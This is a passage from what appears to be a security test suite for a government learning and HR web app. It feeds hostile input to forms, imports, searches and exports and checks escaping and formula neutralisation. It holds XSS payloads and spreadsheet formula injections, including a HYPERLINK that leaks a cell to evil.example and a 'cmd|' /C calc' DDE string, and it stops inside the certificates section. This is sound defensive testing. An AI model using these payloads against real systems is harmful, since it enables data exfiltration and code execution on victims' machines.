// The hostile-input corpus (test/fixtures/hostile) pushed through every form and import that
// exists (people create/edit, people CSV/XLSX import with hostile cells, headers and file names,
// institutions, sign-in, password change, language switch), then every page, preview and export
// that shows the data: no element injected, formulas neutralised in the export, 4xx with a
// message for invalid input, never a 500.
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { csvOf, HEADER, xlsxOf } from '../fixtures/people-files';
import {
  CONTROL_PAYLOADS,
  FORMULA_PAYLOADS,
  HOSTILE_FILE_NAMES,
  URL_PAYLOADS,
  HTML_PAYLOADS,
  INVALID_UTF8,
  INVALID_UTF8_FORM,
  isFormula,
  LONG_PAYLOADS,
  MALFORMED_BODIES,
  MALFORMED_MULTIPART,
  OPERATOR_PAYLOADS,
  QUERY_CONTROL_PAYLOADS,
  TEXT_PAYLOADS,
} from '../fixtures/hostile/payloads';
import type { Agent } from '../support/auth';
import { crawl, getFormsIn, injectedElements, type GetForm } from '../support/crawl';
import { createUser, makeNip } from '../support/factories';
import { publishCourse } from '../support/learning';
import { issueForTest } from '../support/certificates';
import { decodeParts, forgedTokens } from '../support/jwt-attacks';
import crypto from 'node:crypto';
import { readFile as readCertificateFile } from '../../src/certificates/storage';
import { unzipWithinLimits } from '../../src/web/bounded-unzip';
import { execFileSync } from 'node:child_process';
import os from 'node:os';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { createWorld, tokenOf, type World } from './support/world';
import { collectBytes } from '../support/download';

let w: World;
let admin: Agent;
let adminToken: string;
let hr: Agent;
let hrToken: string;
let curator: Agent;
let curatorToken: string;
let hrBkpsdm: Agent;
beforeAll(async () => {
  // The corpus posts hundreds of survey answers from one address, signs in once per feature from it
  // and uploads dozens of files to the verification page:
  // the survey's, the sign-in's and the verification page's per-address limits are tested elsewhere.
  w = await createWorld({
    env: { SURVEY_IP_MAX_PER_HOUR: '100000', LOGIN_IP_MAX_ATTEMPTS: '1000', VERIFY_MAX_PER_MINUTE: '1000' },
  });
  [admin, hr, curator, hrBkpsdm] = await Promise.all([
    w.agent('admin'),
    w.agent('hrOpd'),
    w.agent('curator'),
    w.agent('hrBkpsdm'),
  ]);
  [adminToken, hrToken, curatorToken] = await Promise.all([
    tokenOf(admin, '/'),
    tokenOf(hr, '/'),
    tokenOf(curator, '/'),
  ]);
}, 60_000);
afterAll(async () => w.close());

let nipCounter = 900;
const freshNip = () => makeNip(nipCounter++);

/** A response is acceptable: an expected status, and HTML with nothing injected. */
function check(
  what: string,
  res: { status: number; text: string; headers: Record<string, unknown> },
  statuses: number[],
): string[] {
  const problems: string[] = [];
  if (!statuses.includes(res.status)) problems.push(`${what}: status ${res.status}`);
  if (String(res.headers['content-type'] ?? '').startsWith('text/html'))
    for (const p of injectedElements(res.text)) problems.push(`${what}: ${p}`);
  return problems;
}

const short = (p: string) => JSON.stringify(p.length > 40 ? `${p.slice(0, 40)}…` : p);

describe('forms given hostile input', () => {
  it('people: every payload in every text field is saved as text or refused with 422, and the answer injects nothing', async () => {
    const problems: string[] = [];
    for (const payload of [...TEXT_PAYLOADS, ...LONG_PAYLOADS]) {
      const base = {
        _csrf: hrToken,
        nip: freshNip(),
        name: `Nama ${payload}`,
        employeeType: 'pns',
        golongan: 'III/a',
        jabatan: payload,
        unitKerja: payload,
        email: '',
      };
      problems.push(
        ...check(
          `create ${short(payload)}`,
          await hr.post('/admin/users').type('form').send(base),
          [201, 422],
        ),
      );
    }
    // Fields that must refuse any of these (422 before anything is saved, so these are cheap).
    for (const payload of [...HTML_PAYLOADS, ...OPERATOR_PAYLOADS, ...CONTROL_PAYLOADS, LONG_PAYLOADS[0]]) {
      const base = {
        _csrf: hrToken,
        nip: freshNip(),
        name: 'Nama Uji',
        employeeType: 'pns',
        golongan: 'III/a',
        jabatan: '',
        unitKerja: '',
        email: payload,
      };
      problems.push(
        ...check(
          `create with email ${short(payload)}`,
          await hr.post('/admin/users').type('form').send(base),
          [422],
        ),
      );
      problems.push(
        ...check(
          `create with nip ${short(payload)}`,
          await hr
            .post('/admin/users')
            .type('form')
            .send({ ...base, email: '', nip: payload }),
          [422],
        ),
      );
      problems.push(
        ...check(
          `create with golongan ${short(payload)}`,
          await hr
            .post('/admin/users')
            .type('form')
            .send({ ...base, email: '', golongan: payload }),
          [422],
        ),
      );
    }
    expect(problems).toEqual([]);
  }, 90_000);

  it('people: the 422 page shows what was typed, escaped, with a message next to the field', async () => {
    const res = await hr.post('/admin/users').type('form').send({
      _csrf: hrToken,
      nip: HTML_PAYLOADS[0],
      name: HTML_PAYLOADS[0],
      employeeType: 'pns',
      golongan: 'III/a',
      jabatan: '',
      unitKerja: '',
    });
    expect(res.status).toBe(422);
    expect(res.text).toContain('&#34;&gt;&lt;img src=x onerror=alert(1) data-pwn=1&gt;');
    expect(res.text).toMatch(/class="[^"]*error[^"]*"[^>]*>[^<]*NIP/i);
    expect(injectedElements(res.text)).toEqual([]);
  });

  it('people: editing a person with hostile values, invalid UTF-8 or an oversized body never fails with 500', async () => {
    const problems: string[] = [];
    for (const payload of HTML_PAYLOADS) {
      const res = await hr
        .post(`/admin/users/${w.ids.personInA}`)
        .type('form')
        .send({
          _csrf: hrToken,
          nip: '',
          name: `Siti ${payload}`,
          employeeType: 'non_asn',
          email: 'siti@uji.pemkomedan.go.id',
          jabatan: payload,
          unitKerja: payload,
        });
      problems.push(...check(`edit ${short(payload)}`, res, [302, 422]));
    }
    const raw = `_csrf=${encodeURIComponent(hrToken)}&nip=${freshNip()}&name=Nama${INVALID_UTF8_FORM}&employeeType=pns&golongan=III%2Fa&jabatan=${INVALID_UTF8_FORM}&unitKerja=x`;
    problems.push(
      ...check(
        'create with invalid UTF-8',
        await hr.post('/admin/users').type('form').send(raw),
        [201, 400, 422],
      ),
    );
    problems.push(
      ...check(
        'body over the limit',
        await hr
          .post('/admin/users')
          .type('form')
          .send(`_csrf=${encodeURIComponent(hrToken)}&name=${'A'.repeat(300_000)}`),
        [413],
      ),
    );
    problems.push(
      ...check(
        'malformed JSON',
        await hr.post('/admin/users').set('Content-Type', 'application/json').send('{"_csrf":'),
        [400, 403],
      ),
    );
    expect(problems).toEqual([]);
  });

  it('institutions: hostile names are saved as text, hostile codes refused', async () => {
    const problems: string[] = [];
    let n = 0;
    for (const payload of [...HTML_PAYLOADS, ...FORMULA_PAYLOADS, LONG_PAYLOADS[0]]) {
      problems.push(
        ...check(
          `name ${short(payload)}`,
          await curator
            .post('/admin/institutions')
            .type('form')
            .send({ _csrf: curatorToken, code: `HOSTIL${n++}`, name: `Dinas ${payload}`, kind: 'opd' }),
          [302, 422],
        ),
      );
      problems.push(
        ...check(
          `code ${short(payload)}`,
          await curator
            .post('/admin/institutions')
            .type('form')
            .send({ _csrf: curatorToken, code: payload, name: 'Dinas Baru', kind: 'opd' }),
          [422],
        ),
      );
    }
    problems.push(
      ...check(
        'kind',
        await curator
          .post('/admin/institutions')
          .type('form')
          .send({ _csrf: curatorToken, code: 'KIND1', name: 'Dinas', kind: '__proto__' }),
        [422],
      ),
    );
    expect(problems).toEqual([]);
  });

  it('sign-in, password change and language switch answer 4xx or a redirect, never 500 or injected markup', async () => {
    const problems: string[] = [];
    const visitor = await w.agent('anonymous');
    const token = await tokenOf(visitor);
    for (const payload of [...TEXT_PAYLOADS, LONG_PAYLOADS[0]]) {
      problems.push(
        ...check(
          `login ${short(payload)}`,
          await visitor
            .post('/login')
            .type('form')
            .send({ _csrf: token, identifier: payload, password: payload }),
          [401, 422, 429],
        ),
      );
      problems.push(
        ...check(
          `language ${short(payload)}`,
          await visitor
            .post('/language')
            .type('form')
            .send({ _csrf: token, lang: payload, returnTo: payload }),
          [302],
        ),
      );
    }
    for (const payload of [
      ...HTML_PAYLOADS.slice(0, 3),
      ...OPERATOR_PAYLOADS.slice(0, 2),
      CONTROL_PAYLOADS[0],
      LONG_PAYLOADS[0],
    ]) {
      problems.push(
        ...check(
          `password ${short(payload)}`,
          await admin.post('/account/password').type('form').send({
            _csrf: adminToken,
            currentPassword: payload,
            newPassword: payload,
            confirmPassword: payload,
          }),
          [422, 429],
        ),
      );
    }
    problems.push(
      ...check(
        'login with invalid UTF-8',
        await visitor
          .post('/login')
          .type('form')
          .send(
            `_csrf=${encodeURIComponent(token)}&identifier=${INVALID_UTF8_FORM}&password=${INVALID_UTF8_FORM}`,
          ),
        [401, 422, 429],
      ),
    );
    const cookie =
      ((await visitor.post('/language').type('form').send({ _csrf: token, lang: '<script>' })).headers[
        'set-cookie'
      ] as unknown as string[] | undefined) ?? [];
    expect(cookie.filter((c) => c.startsWith('binaasn.lang='))).toEqual([]); // an unknown language is not stored
    expect(problems).toEqual([]);
  }, 60_000);

  it('forgotten password, set-password links and notification settings answer 4xx or the usual page, never 500 or injected markup', async () => {
    const problems: string[] = [];
    const visitor = await w.agent('anonymous');
    const token = await tokenOf(visitor, '/lupa-sandi');
    const learner = await w.agent('learner');
    const learnerToken = await tokenOf(learner, '/akun/notifikasi');
    for (const payload of [...TEXT_PAYLOADS.slice(0, 12), LONG_PAYLOADS[0]]) {
      problems.push(
        ...check(
          `forgot ${short(payload)}`,
          await visitor.post('/lupa-sandi').type('form').send({ _csrf: token, identifier: payload }),
          [200, 422, 429],
        ),
        ...check(
          `link ${short(payload)}`,
          await visitor
            .post(`/atur-sandi/${encodeURIComponent(payload)}`)
            .type('form')
            .send({ _csrf: token, password: payload, confirmPassword: payload }),
          [404, 429],
        ),
        ...check(
          `notifications ${short(payload)}`,
          await learner.post('/akun/notifikasi').type('form').send({ _csrf: learnerToken, on: payload }),
          [400],
        ),
      );
    }
    problems.push(
      ...check(
        'forgot with invalid UTF-8',
        await visitor
          .post('/lupa-sandi')
          .type('form')
          .send(`_csrf=${encodeURIComponent(token)}&identifier=${INVALID_UTF8_FORM}`),
        [200, 422, 429],
      ),
      ...check(
        'forgot with extra fields',
        await visitor
          .post('/lupa-sandi')
          .type('form')
          .send({ _csrf: token, identifier: 'a@b.id', roles: 'admin' }),
        [422],
      ),
    );
    expect(problems).toEqual([]);
  }, 60_000);
});

describe('search and filter queries given control characters', () => {
  const CONTROL_MESSAGE = 'karakter kontrol';
  const TEXT_TYPES = new Set(['text', 'search', 'textarea']);

  it('every GET form met on the crawl refuses them in each text field with 400 and a message, and never fails with 500', async () => {
    const forms = new Map<string, GetForm>();
    const agents = { admin, hrOpd: hr, curator };
    for (const [role, agent] of Object.entries(agents)) {
      const result = await crawl(
        agent,
        ['/', '/admin/users', '/admin/institutions', '/admin/audit', '/admin/akses'],
        {
          maxPages: 40,
          skip: (p) => p.includes('export') || p.includes('unduh') || p.endsWith('.csv'),
        },
      );
      for (const [path, html] of result.pages)
        for (const form of getFormsIn(html, path))
          forms.set(`${role} ${form.action} ${form.fields.map((f) => f.name).join(',')}`, form);
    }
    const searched = new Set<string>();
    const problems: string[] = [];
    for (const [key, form] of forms) {
      const agent = agents[key.split(' ')[0] as keyof typeof agents];
      for (const field of form.fields) {
        if (field.name === 'lang' || field.name === 'returnTo') continue; // the language switch is a POST
        for (const payload of QUERY_CONTROL_PAYLOADS) {
          const url = `${form.action}?${new URLSearchParams({ [field.name]: payload })}`;
          const res = await agent.get(url);
          const isText = TEXT_TYPES.has(field.type);
          if (isText) searched.add(`${form.action} ${field.name}`);
          if (isText ? res.status !== 400 || !res.text.includes(CONTROL_MESSAGE) : res.status >= 500)
            problems.push(`${key} ${field.name}=${JSON.stringify(payload)}: ${res.status}`);
        }
      }
    }
    expect(problems).toEqual([]);
    expect([...searched].sort()).toEqual([
      '/admin/audit action',
      '/admin/audit actor',
      '/admin/audit target',
      '/admin/institutions q',
      '/admin/sertifikat q',
      '/admin/users q',
      '/kursus q',
    ]);
  }, 120_000);

  it('queries outside the forms (the export, a typed akun=, redirect targets) refuse or ignore them, never 500', async () => {
    for (const payload of QUERY_CONTROL_PAYLOADS) {
      const q = new URLSearchParams({ q: payload });
      const exported = await hr.get(`/admin/users/export.csv?${q}`);
      expect({ payload, status: exported.status }).toEqual({ payload, status: 400 });
      const akun = await admin.get(`/admin/akses?${new URLSearchParams({ akun: payload })}`);
      expect({ payload, status: akun.status, says: akun.text.includes('karakter kontrol') }).toEqual({
        payload,
        status: 400,
        says: true,
      });
      const r = new URLSearchParams({ returnTo: `/${payload}` });
      for (const path of ['/login', '/privasi'])
        expect((await hr.get(`${path}?${r}`)).status).toBeLessThan(500);
    }
  });
});

describe('bodies that the parsers refuse', () => {
  it('answer a 4xx page on every kind of form, never a 500 or a stack trace', async () => {
    const visitor = await w.agent('anonymous');
    const targets: [Agent, string][] = [
      [visitor, '/login'],
      [visitor, '/language'],
      [visitor, '/lupa-sandi'],
      [hr, '/admin/users'],
      [hr, '/admin/undangan/semua'],
      [curator, '/admin/institutions'],
      [admin, '/account/password'],
    ];
    const problems: string[] = [];
    for (const [agent, path] of targets)
      for (const bad of MALFORMED_BODIES) {
        const req = agent.post(path).set('Content-Type', bad.type);
        if (bad.encoding) req.set('Content-Encoding', bad.encoding);
        const res = await req.send(bad.body);
        if (res.status < 400 || res.status >= 500 || /\sat [^<\n]*:\d+:\d+/.test(res.text))
          problems.push(`${path} ${bad.what}: ${res.status}`);
      }
    expect(problems).toEqual([]);
  });

  it('malformed multipart uploads answer 400 on the upload page with a message, never a 500', async () => {
    const problems: string[] = [];
    for (const bad of MALFORMED_MULTIPART) {
      const res = await hr.post('/admin/users/import').set('Content-Type', bad.type).send(bad.body);
      if (res.status !== 400 || !/class="[^"]*(error|alert)[^"]*"/.test(res.text))
        problems.push(`${bad.what}: ${res.status}`);
    }
    expect(problems).toEqual([]);
  });
});

describe('imports given hostile files', () => {
  const hostileRows = () =>
    [...HTML_PAYLOADS, ...FORMULA_PAYLOADS].map((p) => [
      freshNip(),
      `Nama ${p}`,
      '',
      'PNS',
      'III/a',
      p,
      p,
      'DISDUKCAPIL',
    ]);

  it('CSV: hostile cells, headers and file names give a preview that injects nothing, and can be applied', async () => {
    const problems: string[] = [];
    const header = [...HEADER, ...HTML_PAYLOADS.slice(0, 3), '=SUM(A1:A9)'];
    const rows = hostileRows().map((r) => [...r, ...HTML_PAYLOADS.slice(0, 3), '=1+1']);
    let preview = '';
    for (const fileName of HOSTILE_FILE_NAMES) {
      const token = await tokenOf(hr, '/admin/users/import');
      const res = await hr
        .post('/admin/users/import')
        .field('_csrf', token)
        .attach('file', csvOf(rows, header), fileName);
      problems.push(...check(`upload ${short(fileName)}`, res, [303]));
      if (res.status !== 303) continue;
      preview = String(res.headers.location);
      const page = await hr.get(preview);
      problems.push(...check(`preview of ${short(fileName)}`, page, [200]));
      if (fileName.includes('onerror'))
        expect(page.text).toContain('&#34;&gt;&lt;img src=x onerror=alert(1) data-pwn&gt;.csv');
    }
    expect(problems).toEqual([]);
    const confirm = await hr.post(`${preview}/confirm`).type('form').send({ _csrf: hrToken });
    expect(confirm.status).toBe(303);
    const applied = await hr.get(preview);
    expect(check('applied preview', applied, [200])).toEqual([]);
    const saved = await w.t.db.client
      .db(w.t.db.dbName)
      .collection('users')
      .countDocuments({ jabatan: { $in: [...HTML_PAYLOADS, ...FORMULA_PAYLOADS].map((p) => p.trim()) } });
    expect(saved).toBeGreaterThanOrEqual(HTML_PAYLOADS.length);
  }, 60_000);

  it('XLSX: formula cells stay text and hostile cells inject nothing', async () => {
    const rows: unknown[][] = hostileRows();
    rows.push([
      freshNip(),
      { formula: 'HYPERLINK("http://evil.example","Klik")' },
      '',
      'PNS',
      'III/a',
      { formula: "cmd|' /C calc'!A0" },
      '<b data-pwn>x</b>',
      'DISDUKCAPIL',
    ]);
    const token = await tokenOf(hr, '/admin/users/import');
    const res = await hr
      .post('/admin/users/import')
      .field('_csrf', token)
      .attach('file', await xlsxOf(rows as never), 'pegawai.xlsx');
    expect(res.status).toBe(303);
    const page = await hr.get(String(res.headers.location));
    expect(check('xlsx preview', page, [200])).toEqual([]);
    expect(page.text).toContain('=HYPERLINK(&#34;http://evil.example&#34;,&#34;Klik&#34;)');
  });

  it('refuses invalid UTF-8, binary and empty files with 422 and a clear message, never 500', async () => {
    const cases: [string, Buffer][] = [
      [
        'invalid UTF-8',
        Buffer.concat([
          Buffer.from(`${HEADER.join(',')}\r\n`),
          INVALID_UTF8,
          Buffer.from(',x,,PNS,III/a,x,x,DISDUKCAPIL\r\n'),
        ]),
      ],
      ['binary', Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff, 0x00])],
      ['empty', Buffer.alloc(0)],
      ['header only', Buffer.from(`${HEADER.join(',')}\r\n`)],
      ['a fake xlsx', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(100)])],
    ];
    for (const [what, bytes] of cases) {
      const token = await tokenOf(hr, '/admin/users/import');
      const res = await hr
        .post('/admin/users/import')
        .field('_csrf', token)
        .attach('file', bytes, `${what}.csv`);
      expect({ what, status: res.status }).toEqual({
        what,
        status: [400, 422].includes(res.status) ? res.status : 422,
      });
      expect(res.text).toMatch(/class="[^"]*(error|alert)[^"]*"/);
      expect(injectedElements(res.text)).toEqual([]);
    }
  });
});

describe('pages and exports showing hostile data', () => {
  it('render every page reachable by admin, the OPD HR, BKPSDM HR and the curator without injected elements', async () => {
    const problems: string[] = [];
    const agents = { admin, hrOpd: hr, hrBkpsdm, curator };
    for (const role of ['admin', 'hrOpd', 'hrBkpsdm', 'curator'] as const) {
      const agent = agents[role];
      const start = [
        '/',
        '/admin/users',
        '/admin/users?status=active',
        `/admin/users?q=${encodeURIComponent(HTML_PAYLOADS[0])}`,
        '/admin/institutions',
        '/admin/audit',
        `/admin/audit?action=${encodeURIComponent(HTML_PAYLOADS[1])}`,
        '/admin/akses',
        '/data-saya',
      ];
      const result = await crawl(agent, start, {
        maxPages: role === 'admin' ? 90 : 45,
        skip: (p) => p.includes('export') || p.includes('unduh') || p.endsWith('.csv'),
      });
      for (const [path, status] of result.visited)
        if (status >= 500) problems.push(`${role} ${path}: ${status}`);
      for (const [path, html] of result.pages)
        for (const p of injectedElements(html)) problems.push(`${role} ${path}: ${p}`);
      expect(result.pages.size).toBeGreaterThan(5);
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it('neutralise every formula in the people CSV export, while keeping the data', async () => {
    const res = await admin.get('/admin/users/export.csv');
    expect(res.status).toBe(200);
    const cells = (
      parseCsv(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
    ).flat();
    expect(cells.filter(isFormula)).toEqual([]);
    expect(cells).toEqual(
      expect.arrayContaining([
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
        "'+1+1",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
      ]),
    );
    expect(cells.some((c) => c.includes('<img src=x onerror=alert(1) data-pwn=1>'))).toBe(true); // text stays text in a CSV
  });

  it('the injection detector finds what the payloads would inject if rendered raw (it can fail)', () => {
    for (const payload of [...HTML_PAYLOADS.slice(0, 8)]) {
      const quote = payload.startsWith("'") ? "'" : '"';
      const raw = `<p title="x">${payload}</p><input value=${quote}${payload}${quote}>`;
      expect({ payload, found: injectedElements(raw).length > 0 }).toEqual({ payload, found: true });
    }
  });
});

describe('courses given hostile input', () => {
  let author: Agent;
  let authorToken: string;
  let courseId = '';
  const hostileMarkdown = [...HTML_PAYLOADS, ...URL_PAYLOADS].join('\n\n');

  beforeAll(async () => {
    author = await w.agent('author');
    authorToken = await tokenOf(author, '/penulisan/baru');
  });

  it('course, module and lesson forms save hostile text as text or refuse it with 422, never 500', async () => {
    const problems: string[] = [];
    for (const payload of [...TEXT_PAYLOADS, ...LONG_PAYLOADS]) {
      const res = await author
        .post('/penulisan')
        .type('form')
        .send({
          _csrf: authorToken,
          code: `HOSTIL-${nipCounter++}`,
          title: `Kursus ${payload}`,
          summary: payload,
          objectives: payload,
          competencyType: 'teknis',
          area: 'literasi_digital',
          jp: '1',
          audienceAll: 'all',
          quizPassMark: '70',
          sig1Name: payload,
          sig1Nip: '197505202000032002',
          sig1Position: payload,
        });
      problems.push(...check(`course ${short(payload)}`, res, [303, 422]));
      if (res.status === 303 && !courseId)
        courseId = /([0-9a-f]{24})$/.exec(String(res.headers.location))![1];
    }
    for (const payload of [...HTML_PAYLOADS, ...OPERATOR_PAYLOADS, ...CONTROL_PAYLOADS])
      for (const field of ['code', 'jp', 'competencyType', 'audienceOpds', 'coauthors'])
        problems.push(
          ...check(
            `course ${field} ${short(payload)}`,
            await author
              .post('/penulisan')
              .type('form')
              .send({
                _csrf: authorToken,
                code: 'HOSTIL-X',
                title: 'Judul uji',
                competencyType: 'teknis',
                area: 'literasi_digital',
                jp: '1',
                audienceAll: 'opds',
                quizPassMark: '70',
                [field]: payload,
              }),
            [400, 409, 422],
          ),
        );
    const base = `/penulisan/${courseId}`;
    for (const payload of HTML_PAYLOADS)
      problems.push(
        ...check(
          `module ${short(payload)}`,
          await author
            .post(`${base}/modul`)
            .type('form')
            .send({ _csrf: authorToken, title: `Modul ${payload}` }),
          [303],
        ),
      );
    const moduleKey = /modul\/([0-9a-f]{24})\/pelajaran-baru/.exec((await author.get(base)).text)![1];
    for (const payload of [...HTML_PAYLOADS, LONG_PAYLOADS[0]]) {
      const lesson = {
        _csrf: authorToken,
        title: `Pelajaran ${payload}`,
        kind: 'text',
        minutes: '5',
        body: hostileMarkdown,
      };
      for (const intent of ['preview', 'save'])
        problems.push(
          ...check(
            `lesson ${intent} ${short(payload)}`,
            await author
              .post(`${base}/modul/${moduleKey}/pelajaran`)
              .type('form')
              .send({ ...lesson, intent }),
            [200, 303, 422],
          ),
        );
      problems.push(
        ...check(
          `lesson kind ${short(payload)}`,
          await author
            .post(`${base}/modul/${moduleKey}/pelajaran`)
            .type('form')
            .send({ ...lesson, kind: payload }),
          [422],
        ),
      );
      problems.push(
        ...check(
          `lesson embed ${short(payload)}`,
          await author
            .post(`${base}/modul/${moduleKey}/pelajaran`)
            .type('form')
            .send({ ...lesson, kind: 'video', embedUrl: payload }),
          [422],
        ),
      );
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it('uploads with hostile file names are stored under sanitised names or refused, never 500', async () => {
    const base = `/penulisan/${courseId}`;
    const problems: string[] = [];
    const pdf = fs.readFileSync(
      path.join(__dirname, '../fixtures/course-packages/UJI-01/files/ringkasan.pdf'),
    );
    const svg = fs.readFileSync(path.join(__dirname, '../fixtures/course-packages/UJI-01/files/gembok.svg'));
    for (const name of HOSTILE_FILE_NAMES) {
      const images = await author
        .post(`${base}/gambar`)
        .field('_csrf', authorToken)
        .attach('image', svg, name.replace(/\.csv$/, '.svg'));
      problems.push(...check(`image ${short(name)}`, images, [303, 422]));
      const pkg = await author
        .post('/penulisan/impor')
        .field('_csrf', authorToken)
        .attach('package', pdf, name.replace(/\.csv$/, '.zip'));
      problems.push(...check(`package ${short(name)}`, pkg, [422]));
    }
    const editor = await author.get(base);
    problems.push(...check('editor with hostile names', editor, [200]));
    for (const bad of MALFORMED_MULTIPART)
      for (const action of [`${base}/gambar`, '/penulisan/impor']) {
        const res = await author.post(action).set('Content-Type', bad.type).send(bad.body);
        if (res.status >= 500) problems.push(`${action} ${bad.what}: ${res.status}`);
      }
    expect(problems).toEqual([]);
  }, 60_000);

  it('the published course shows hostile content to learners and curators without injected elements', async () => {
    const base = `/penulisan/${courseId}`;
    // Modules without lessons would keep the course from being submitted: delete them.
    for (const m of (await author.get(base)).text.matchAll(/modul\/([0-9a-f]{24})\/hapus/g))
      expect(
        (await author.post(`${base}/modul/${m[1]}/hapus`).type('form').send({ _csrf: authorToken })).status,
      ).toBe(303);
    const submitted = await author.post(`${base}/ajukan`).type('form').send({ _csrf: authorToken });
    const notReady = /<div class="form-error">([\s\S]*?)<\/div>/.exec((await author.get(base)).text)?.[1];
    expect([submitted.status, notReady]).toEqual([303, undefined]);
    await author.post(`${base}/ajukan`).type('form').send({ _csrf: authorToken });
    const curatorAgent = await w.agent('curator');
    const token = await tokenOf(curatorAgent, `/kurasi/${courseId}`);
    expect(
      (
        await curatorAgent
          .post(`/kurasi/${courseId}/terbitkan`)
          .type('form')
          .send({ _csrf: token, comment: HTML_PAYLOADS[0] })
      ).status,
    ).toBe(303);
    const problems: string[] = [];
    for (const role of ['author', 'curator', 'learner'] as const) {
      const agent = await w.agent(role);
      const start =
        role === 'author'
          ? [base, `${base}/riwayat`]
          : role === 'curator'
            ? [`/kurasi/${courseId}`, '/kurasi']
            : ['/kursus', `/kursus/${courseId}`];
      if (role === 'learner') {
        // Enrolled, the learner's crawl reaches the player's lesson pages too.
        const learnerToken = await tokenOf(agent, `/kursus/${courseId}`);
        await agent.post(`/kursus/${courseId}/ikuti`).type('form').send({ _csrf: learnerToken });
      }
      const result = await crawl(agent, start, { maxPages: 40 });
      for (const [p, html] of result.pages)
        for (const found of injectedElements(html)) problems.push(`${role} ${p}: ${found}`);
      for (const [p, status] of result.visited) if (status >= 500) problems.push(`${role} ${p}: ${status}`);
    }
    expect(problems).toEqual([]);
  }, 120_000);
});

describe('learning given hostile input', () => {
  it('the assignment form refuses hostile values with 422 (or assigns nobody), injects nothing and never fails', async () => {
    const problems: string[] = [];
    const base = {
      course: w.ids.courses.published.id,
      dueDay: '2099-01-31',
      mode: 'position',
      nips: '',
      opd: '',
      jabatan: '',
      golongan: '',
    };
    for (const field of ['course', 'dueDay', 'mode', 'nips', 'opd', 'jabatan', 'golongan'] as const)
      for (const payload of [...TEXT_PAYLOADS, ...HTML_PAYLOADS, ...LONG_PAYLOADS]) {
        const res = await hr
          .post('/penugasan')
          .type('form')
          .send({ _csrf: hrToken, ...base, [field]: payload });
        problems.push(...check(`assign ${field}=${short(payload)}`, res, [200, 422]));
      }
    for (const payload of OPERATOR_PAYLOADS) {
      const res = await hr
        .post('/penugasan')
        .type('form')
        .send(`_csrf=${encodeURIComponent(hrToken)}&${payload}`);
      problems.push(...check(`assign ${short(payload)}`, res, [400, 422]));
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it('the catalog and the player answer hand-made queries and keys with 4xx or the page, never 500', async () => {
    const learner = await w.agent('learner');
    const problems: string[] = [];
    for (const payload of [...TEXT_PAYLOADS, ...HTML_PAYLOADS, ...OPERATOR_PAYLOADS]) {
      for (const url of [
        `/kursus?${new URLSearchParams({ q: payload, sort: payload, jp: payload, area: payload, partner: payload })}`,
        `/kursus/${encodeURIComponent(payload)}`,
        `/kursus/${w.ids.courses.published.id}/pelajaran/${encodeURIComponent(payload)}`,
      ]) {
        const res = await learner.get(url);
        problems.push(...check(`GET ${short(url)}`, res, [200, 303, 400, 404]));
      }
    }
    expect(problems).toEqual([]);
  }, 120_000);
  it('the monitoring dashboard and its exports answer hand-made filters with the page or a file, never 500', async () => {
    const problems: string[] = [];
    for (const payload of [...TEXT_PAYLOADS, ...HTML_PAYLOADS, ...OPERATOR_PAYLOADS, ...FORMULA_PAYLOADS]) {
      const query = new URLSearchParams({
        opd: payload,
        unit: payload,
        golongan: payload,
        year: payload,
        sort: payload,
        tabel: payload,
      });
      for (const url of [`/pemantauan?${query}`, `/pemantauan/ekspor.csv?${query}`]) {
        for (const agent of [hr, hrBkpsdm]) {
          const res = await agent.get(url);
          problems.push(...check(`GET ${short(url)}`, res, [200, 400]));
        }
      }
      // The PDF report reads the same filters (one agent: a PDF costs more than a page).
      const pdf = await hr.get(`/pemantauan/laporan.pdf?${query}`);
      problems.push(...check(`GET /pemantauan/laporan.pdf?${short(String(query))}`, pdf, [200, 400]));
      const report = `/laporan-kursus/${w.ids.courses.published.id}?${new URLSearchParams({ year: payload })}`;
      problems.push(...check(`GET ${short(report)}`, await curator.get(report), [200, 400]));
      const missing = `/laporan-kursus/${encodeURIComponent(payload)}`;
      problems.push(...check(`GET ${short(missing)}`, await curator.get(missing), [404]));
      const file = `/laporan-kursus/${w.ids.courses.published.id}/ekspor.csv?${new URLSearchParams({ tabel: payload, year: payload })}`;
      problems.push(...check(`GET ${short(file)}`, await curator.get(file), [200]));
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it("the course report's CSV and XLSX write formula-like course and lesson titles as text", async () => {
    const course = await publishCourse({
      title: FORMULA_PAYLOADS[1],
      modules: [FORMULA_PAYLOADS.map((title) => ({ title })), [{ title: HTML_PAYLOADS[0] }]],
    });
    const page = await curator.get(`/laporan-kursus/${course.id}`);
    expect(check('course report', page, [200])).toEqual([]);
    for (const table of ['ringkasan', 'pelajaran']) {
      const csv = await curator.get(`/laporan-kursus/${course.id}/ekspor.csv?tabel=${table}`);
      const cells = (
        parseCsv(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
      ).flat();
      expect(cells.filter(isFormula)).toEqual([]);
      const xlsx = await curator
        .get(`/laporan-kursus/${course.id}/ekspor.xlsx?tabel=${table}`)
        .buffer(true)
        .parse(collectBytes);
      const workbook = new ExcelJS.Workbook();
      const body = xlsx.body as Buffer;
      await workbook.xlsx.load(
        body.buffer.slice(body.byteOffset, body.byteOffset + body.byteLength) as ArrayBuffer,
      );
      const values: unknown[] = [];
      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
      expect(values.filter((v) => typeof v === 'object' && v !== null)).toEqual([]);
      expect(values.filter((v): v is string => typeof v === 'string').filter(isFormula)).toEqual([]);
      // The data is kept, neutralised: the title in the summary, every lesson title (as stored) in the lessons.
      const wanted =
        table === 'ringkasan'
          ? [course.course.title]
          : course.course.modules.flatMap((m) => m.lessons.map((l) => l.title));
      for (const title of wanted) {
        const written = isFormula(title) ? `'${title}` : title;
        expect([table, title, cells.includes(written), values.includes(written)]).toEqual([
          table,
          title,
          true,
          true,
        ]);
      }
    }
  });
});

describe('certificates given hostile input', () => {
  let hostile: { _id: unknown; code: string; number: string; file?: { id: unknown } | null };
  beforeAll(async () => {
